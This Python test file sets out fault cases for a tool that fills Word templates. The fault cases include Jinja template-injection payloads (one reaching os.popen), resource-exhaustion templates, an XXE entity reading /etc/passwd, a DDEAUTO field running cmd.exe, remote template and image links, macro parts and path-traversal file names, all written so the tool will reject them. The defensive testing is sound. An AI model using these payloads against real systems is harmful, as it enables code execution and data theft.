"""Groups T, F and Z of the fault table: what may stand in a template, and in names of files."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

from cases import Case
from raw_books import RawBook, a_book, said
from raw_forms import (
    HEAD,
    PACKAGE,
    SPACES,
    RawForm,
    form_with,
    notes,
    paragraph,
    relation,
    relations,
    roll_with,
)

NAMES = ("[Đỗ Thị Hạnh]", "[Lương Văn Tấn]", "[Hồ Thị Na]")


def refused(id: str, what: str, line: str, where: str = "phieu.docx") -> Case:
    """A roll with one more line for each person, which no template may have."""
    return Case(id, what, "refuse", where, form=lambda: roll_with(line))


def linked(id: str, what: str, *links: str, xml: str = "", **parts: str | bytes) -> Case:
    """A template that fetches or runs something from elsewhere."""
    return Case(
        id,
        what,
        "refuse",
        "phieu.docx",
        form=lambda: form_with(
            xml,
            links=list(links),
            parts={f"word/{name.replace('__', '.')}": content for name, content in parts.items()},
        ),
    )


def printed(id: str, what: str, *says: str, form: Callable[[], RawForm]) -> Case:
    return Case(id, what, "exact", says=says, form=form)


def field(code: str) -> str:
    """A field of Word with that code."""
    run = "<w:r>{}</w:r>"
    return (
        "<w:p>"
        + "".join(
            run.format(inside)
            for inside in (
                '<w:fldChar w:fldCharType="begin"/>',
                f'<w:instrText xml:space="preserve">{code}</w:instrText>',
                '<w:fldChar w:fldCharType="separate"/>',
                "<w:t>x</w:t>",
                '<w:fldChar w:fldCharType="end"/>',
            )
        )
        + "</w:p>"
    )


def hyperlink() -> RawForm:
    xml = '<w:p><w:hyperlink r:id="rId77"><w:r><w:t>Trang tin</w:t></w:r></w:hyperlink></w:p>'
    return form_with(
        xml, links=[relation("rId77", "hyperlink", "https://vi.example", external=True)]
    )


def settings(content: str, *links: str) -> RawForm:
    form = RawForm().with_part(
        "settings.xml", "settings", f"{HEAD}<w:settings {SPACES}>{content}</w:settings>"
    )
    form.parts["word/_rels/settings.xml.rels"] = relations(*links)
    return form


def text_box() -> RawForm:
    inside = paragraph("[{{ don_vi.ten }}]")
    vml = (
        '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:textbox>'
        f"<w:txbxContent>{inside}</w:txbxContent></v:textbox></v:shape></w:pict></w:r></w:p>"
    )
    return form_with(vml)


def with_core(title: str = "", creator: str = "", company: str = "") -> RawForm:
    form = RawForm()
    form.parts["docProps/core.xml"] = (
        f'{HEAD}<cp:coreProperties xmlns:cp="{PACKAGE}/metadata/core-properties"'
        ' xmlns:dc="http://purl.org/dc/elements/1.1/">'
        f"<dc:title>{title}</dc:title><dc:creator>{creator}</dc:creator></cp:coreProperties>"
    )
    form.parts["docProps/app.xml"] = (
        f'{HEAD}<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/'
        f'extended-properties"><Company>{company}</Company></Properties>'
    )
    return form


def header(text: str) -> RawForm:
    return RawForm().with_part(
        "header1.xml", "header", f"{HEAD}<w:hdr {SPACES}>{paragraph(text)}</w:hdr>"
    )


def broken(content: bytes | Callable[[bytes], bytes]) -> Callable[[Path], None]:
    def change(folder: Path) -> None:
        path = folder / "mau" / "phieu.docx"
        path.write_bytes(content(path.read_bytes()) if callable(content) else content)

    return change


def a_workbook_for_a_form(folder: Path) -> None:
    a_book().written(folder / "mau" / "phieu.docx")


def tracked() -> RawForm:
    return form_with('<w:p><w:ins w:id="1" w:author="A"><w:r><w:t>thêm</w:t></w:r></w:ins></w:p>')


def second_row_fails() -> RawForm:
    """Fails at the second person only, when the first has been printed already."""
    return roll_with("{{ d.ten if d.stt == 1 else d.khong_co }}")


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4096
TEMPLATES = (
    refused("T01", "biến không có trong dữ liệu", "{{ que_quan }}", "que_quan"),
    refused("T02", "biến gõ sai", "{{ d.tem }}", "tem"),
    printed("T03", "biến NFD trong mẫu, cột NFC trong bảng", *NAMES,
            form=lambda: roll_with("{{ d['te\u0302n'] if false else d.ten }}")),
    refused("T04", "thiếu }}", "{{ d.ten", "{{"),
    Case("T05", "thiếu endfor", "refuse", "for",
         form=lambda: RawForm("".join(map(paragraph, ("{%p for d in de_cu.danh_sach %}", "x"))))),
    refused("T06", "bộ lọc không có", "{{ d.ten|in_hoa_lạ }}", "in_hoa_lạ"),
    refused("T07", "tên biến có khoảng trắng", "{{ ho ten }}", "{{ ho ten }}"),
    refused("T08", "thẻ tách rời", "{ { d.ten } }"),
    refused("T09", "SSTI __class__", "{{ d.ten.__class__ }}"),
    refused("T10", "SSTI cycler/os.popen", '{{ cycler.__init__.__globals__.os.popen("id").read() }}'),
    refused("T11", "SSTI |attr", '{{ d.ten|attr("__class__") }}'),
    refused("T12", "SSTI format", '{{ "{0.__class__}".format(d.ten) }}'),
    refused("T13", "bom bộ nhớ", "{{ 'x' * 300000000 }}"),
    refused("T14", "vòng lặp 10^9",
            "{% for a in range(99999) %}{% for b in range(99999) %}x{% endfor %}{% endfor %}"),
    refused("T15", "include tệp ngoài", '{% include "/etc/passwd" %}'),
    Case("T16", "mẫu .docm có macro", "refuse", "phieu.docx", form=lambda: RawForm(
        main_type="application/vnd.ms-word.document.macroEnabled.main+xml")),
    linked("T17", "vbaProject trong .docx", vbaProject__bin=b"macro"),
    Case("T18", "attachedTemplate từ mạng", "refuse", "phieu.docx",
         form=lambda: settings('<w:attachedTemplate r:id="rId1"/>',
             relation("rId1", "attachedTemplate", "http://x.example/a.dotm", external=True))),
    linked("T19", "ảnh tải từ mạng", relation("rId9", "image", "http://x.example/a.png", external=True)),
    linked("T20", "oleObject UNC", relation("rId9", "oleObject", "file://///may/x.doc", external=True)),
    linked("T21", "altChunk HTML", relation("rId9", "aFChunk", "a.html"),
           xml='<w:altChunk r:id="rId9"/>', a__html="<p>x</p>"),
    Case("T22", "trường DDEAUTO", "refuse", "DDEAUTO",
         form=lambda: form_with(field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'))),
    printed("T23", "siêu liên kết thường", "Trang tin", *NAMES, form=hyperlink),
    Case("T24", "XXE trong document.xml", "refuse", "phieu.docx", form=lambda: form_with(
        paragraph("&x;"), prologue='<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>')),
    printed("T25", "thẻ trong hộp văn bản", "[Sở Nông nghiệp và Môi trường]", form=text_box),
    Case("T26", "thẻ trong chú giải", "refuse", "phieu.docx", form=lambda: RawForm().with_part(
        "comments.xml", "comments",
        f'{HEAD}<w:comments {SPACES}><w:comment w:id="0">{paragraph("{{ don_vi.ten }}")}'
        "</w:comment></w:comments>")),
    printed("T27", "thẻ trong endnotes", "[Sở Nông nghiệp và Môi trường]",
            form=lambda: RawForm().with_part(
                "endnotes.xml", "endnotes", notes("endnote", "[{{ don_vi.ten }}]"))),
    printed("T28", "thẻ trong thuộc tính tệp", *NAMES, form=lambda: with_core("{{ don_vi.ten }}")),
    Case("T29", "theo dõi thay đổi", "warn", form=tracked),
    printed("T30", "nháy cong trong thẻ", "[Đỗ Thị Hạnh!]",
            form=lambda: roll_with("[{{ [d.ten, “!”]|join }}]")),
    refused("T31", "{{r d.ten }} với chữ thường", "{{r d.ten }}"),
    refused("T32", "{{ d.ten|safe }}", "{{ d.ten|safe }}", "safe"),
    printed("T33", "một thẻ chia nhiều run", "<Đỗ Thị Hạnh>", form=lambda: RawForm(
        paragraph("{%p for d in de_cu.danh_sach %}")
        + paragraph("&lt;{", "{ d", ".t", "en }", "}&gt;")
        + paragraph("{%p endfor %}"))),
    printed("T34", "mẫu mang tên tác giả và công ty", *NAMES,
            form=lambda: with_core("", "Nguyễn Riêng Tư", "Công ty Kín")),
    Case("T35", "mẫu rỗng", "refuse", "phieu.docx", files=broken(b"")),
    Case("T36", "mẫu .doc cũ đổi đuôi", "refuse", "phieu.docx", files=broken(OLE)),
    Case("T37", "mẫu zip cụt", "refuse", "phieu.docx", files=broken(lambda b: b[: len(b) // 2])),
    Case("T38", "mẫu .xlsx đổi đuôi", "refuse", "phieu.docx", files=a_workbook_for_a_form),
    Case("T39", "biến ở header sai", "refuse", "don_vy", form=lambda: header("{{ don_vy.ten }}")),
    Case("T40", "lỗi ở hàng 2 của danh sách: không văn bản nào", "refuse", "khong_co",
         form=second_row_fails),
)  # fmt: skip


# ---------------------------------------------------------------- names of files, and the control


def awkward(id: str, what: str, code: str) -> Case:
    """The code of the dossier and the office's symbol may hold anything: names of files may not."""

    def book() -> RawBook:
        made = a_book({"D3": said(code), "G3": said(code)})
        made.page("Hồ sơ").cells["B2"] = said(code)
        return made

    return Case(id, what, "exact", book=book, says=(f"[{code}]",))


NAMES_OF_FILES = (
    awkward("F01", "ký tự cấm của Windows", 'Tổ <1>: "A/B\\C|D?*"'),
    awkward("F02", "tên cấm CON", "CON"),
    awkward("F03", "dấu chấm cuối", "Phòng A."),
    awkward("F04", "../", "../../etc/passwd"),
    awkward("F05", "dài 300 ký tự", "Phòng " + "dài" * 98),
    awkward("F06", "bắt đầu bằng -", "-rf"),
    Case("F07", "hai đơn vị trùng tên sau khi làm sạch", "exact",
         book=lambda: a_book({"G2": "Phòng A/B", "G3": "phòng a-b", "G4": "Pho\u0300ng A:B"}),
         says=("[Phòng A/B]", "[phòng a-b]", "[Phòng A:B]")),
    Case("Z00", "mẫu và dữ liệu sạch", "exact", says=NAMES),
)  # fmt: skip

CASES = (*TEMPLATES, *NAMES_OF_FILES)
